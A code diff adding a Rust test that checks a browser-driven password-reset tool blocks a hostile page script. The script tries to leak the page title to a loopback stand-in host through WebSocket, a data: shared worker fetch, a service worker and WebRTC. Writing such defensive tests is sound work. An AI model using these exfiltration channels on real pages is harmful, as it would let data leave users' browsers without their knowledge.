@@ -384,6 +384,58 @@ fn a_dialog_of_the_page_s_own_never_hangs_and_is_accepted_only_after_confirmer()
     assert!(asking.sim.resets().is_empty());
 }
 
+/// A portal (or a CDN's script) that tries to send the page elsewhere with
+/// what fetch and XHR are not: a WebSocket, a shared worker from a `data:`
+/// address, a service worker, WebRTC. Nothing reaches the other origin,
+/// and the run goes on. (A worker's fetch is paused as any other request:
+/// refused, and the run stops, as for an XHR.)
+#[test]
+fn a_page_s_script_reaches_no_other_origin_by_sockets_or_workers() {
+    if !have("chromium") {
+        return;
+    }
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let elsewhere = listener.local_addr().unwrap();
+    let udp = std::net::UdpSocket::bind(elsewhere).unwrap();
+    udp.set_nonblocking(true).unwrap();
+    let script = format!(
+        "var t = encodeURIComponent(document.title);\
+         try {{ new WebSocket('ws://{elsewhere}/ws?' + t); }} catch (e) {{}}\
+         try {{ new SharedWorker('data:text/javascript,fetch(\"http://{elsewhere}/shared\")'); }} catch (e) {{}}\
+         try {{ navigator.serviceWorker.register('/sw.js'); }} catch (e) {{}}\
+         try {{ var pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{elsewhere}'}}]}}); pc.createDataChannel('x'); pc.createOffer().then(function (o) {{ pc.setLocalDescription(o); }}); }} catch (e) {{}}"
+    );
+    let Setup {
+        dir,
+        sim,
+        public,
+        identity,
+    } = Setup::new(&["--shape", "scripted", "--hostile-page-script", &script]);
+    let input = dir.path().join("in.csv");
+    std::fs::write(&input, "client_ref,licence\n4054,*\n").unwrap();
+    let output = dir.path().join("out.age");
+    exits_with(
+        run_cmd(&sim, &input, &output, &public)
+            .args(["--yes", "--rate", "100", "--engine", "browser"]),
+        0,
+    );
+    assert!(
+        listener.accept().is_err(),
+        "a connection reached the other origin"
+    );
+    let mut buf = [0u8; 512];
+    assert!(
+        udp.recv(&mut buf).is_err(),
+        "a datagram reached the other origin"
+    );
+    let last = last_passwords(&sim.resets());
+    assert_eq!(last.len(), 8);
+    for row in &decrypt(&identity, &output) {
+        assert_eq!(Some(&row["password"]), last.get(&row["licence"]), "{row:?}");
+    }
+}
+
 #[test]
 fn moving_to_the_browser_carries_the_portal_session_on() {
     if !have("chromium") {
